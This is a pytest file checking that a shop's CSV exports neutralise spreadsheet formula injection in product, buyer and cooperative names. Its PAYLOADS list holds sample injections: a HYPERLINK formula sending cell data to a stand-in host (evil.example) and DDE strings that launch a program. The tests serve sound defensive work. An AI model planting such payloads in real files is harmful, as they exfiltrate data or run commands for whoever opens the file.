"""No CSV the shop writes carries a cell a spreadsheet would run as a formula.

Staff name products and packs, buyers name themselves, the admin names cooperatives: text that
starts with = + - @ (or a tab, carriage return or line feed) is written with a leading
apostrophe, so Excel, LibreOffice and Google Sheets show it instead of running it. Amounts the
shop writes itself stay numbers, negative ones too.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from shop.accounts.models import MembershipRole
from shop.core.csv_export import csv_text, neutralise
from tests.cart.builders import log_in
from tests.factories import ProductFactory, VariantFactory
from tests.platform.builders import bangkok, log_in_admin, place, staff_of, two_cooperatives

# The examples of the security review, each as a staff member or buyer could type them.
PAYLOADS = (
    '=HYPERLINK("https://evil.example/collect?d="&A1,"Click for the discount")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
SHOP_NUMBER = re.compile(r"-?\d+(\.\d+)?")
STAFF_EMAIL = "staff@la-un.example.org"


def cells(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    body = response.get_data().decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:], newline="")))


def runnable(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: starting with a formula character, not a plain number."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.lstrip()[:1] in FORMULA_START or cell[:1] in FORMULA_START
        if not SHOP_NUMBER.fullmatch(cell)
    ]


def shown_as_text(rows: list[list[str]], payload: str) -> bool:
    return any(cell == "'" + payload for row in rows for cell in row)


@pytest.fixture
def la_un(session):
    la_un, _ = two_cooperatives()
    staff_of(la_un, STAFF_EMAIL, role=MembershipRole.OWNER)
    session.commit()
    return la_un


def test_stock_export_writes_product_and_pack_names_as_text(client, session, la_un):
    for i, payload in enumerate(PAYLOADS):
        product = ProductFactory(
            cooperative=la_un,
            variants=0,
            name_th=payload,
            name_en=payload,
            name_my=payload,
        )
        VariantFactory(
            product=product, sku=f"LAUN-{i}", name_th=payload, name_en=payload, name_my=payload
        )
    session.commit()
    log_in(client, STAFF_EMAIL)

    rows = cells(client.get("/seller/stock/export.csv"))

    assert runnable(rows) == []
    for payload in PAYLOADS:
        row = next(r for r in rows if r[1] == "'" + payload)
        assert row[1:7] == ["'" + payload] * 6  # three product names, three pack names
    assert [r[7:] for r in rows[1:]] == [["180.00", "20", "5"]] * len(PAYLOADS)


def test_stock_export_still_imports_back_unchanged(client, session, la_un):
    product = ProductFactory(cooperative=la_un, variants=0, name_en=PAYLOADS[1])
    variant = VariantFactory(product=product, sku="LAUN-1", name_en=PAYLOADS[3])
    session.commit()
    log_in(client, STAFF_EMAIL)
    exported = client.get("/seller/stock/export.csv").get_data()

    response = client.post(
        "/seller/stock/import?lang=en",
        data={"file": (io.BytesIO(exported), "stock.csv")},
        content_type="multipart/form-data",
    )

    assert response.status_code == 200
    assert "<h1>Import done</h1>" in response.get_data(as_text=True)
    session.expire_all()
    assert (variant.product.name_en, variant.name_en) == (PAYLOADS[1], PAYLOADS[3])


def test_seller_orders_export_writes_buyer_names_as_text(client, session, la_un):
    for payload in PAYLOADS:
        order = place([(la_un, 18_000, 5_000, 500)], paid_at=bangkok(2026, 3, 10))
        order.ship_name = payload
    session.commit()
    log_in(client, STAFF_EMAIL)

    rows = cells(client.get("/seller/orders/export.csv"))

    assert runnable(rows) == []
    assert all(shown_as_text(rows, payload) for payload in PAYLOADS)


def test_settlement_writes_the_cooperative_name_as_text_and_refunds_as_numbers(
    client, session, la_un
):
    payload = PAYLOADS[0]
    la_un.name_th = payload
    place([(la_un, 20_000, 5_000, 500)], paid_at=bangkok(2026, 3, 10), refunded={0: 25_000})
    session.commit()
    log_in_admin(client)

    rows = cells(
        client.get(
            "/admin/settlement.csv",
            query_string={
                "date_from": "2026-03-01",
                "date_to": "2026-03-31",
                "cooperative": la_un.id,
            },
        )
    )

    assert rows[0][1] == "'" + payload
    assert runnable(rows) == []
    net = rows[3][-1]
    assert net == "-10.00"  # 250 − 250 refunded − 5% of 200: the shop's own negative number


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize(
    "text",
    [" =1+1", "\u00a0@SUM(1)", "\n=1+1", "\uff1d1+1", "\uff0bcmd|' /C calc'!A0", "-5", "-"],
)
def test_hidden_and_full_width_formula_starts_are_caught_too(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Dark roast 250 g", "กาแฟโรบัสต้า", "ကော်ဖီ", "RN-1234-5678", ""])
def test_ordinary_text_is_written_as_typed(text):
    assert neutralise(text) == text


def test_numbers_the_shop_writes_stay_numbers():
    text = csv_text([("refund", Decimal("-12.50"), -3, None)])
    assert text == "\ufeffrefund,-12.50,-3,\r\n"


def test_every_csv_the_shop_writes_goes_through_the_one_writer():
    """A new export that builds its own csv.writer would skip the neutraliser."""
    shop = Path(__file__).resolve().parents[2] / "shop"
    writers = [
        str(path.relative_to(shop))
        for path in shop.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\b|\.writerows?\(", path.read_text("utf-8"))
    ]
    assert writers == ["core/csv_export.py"]
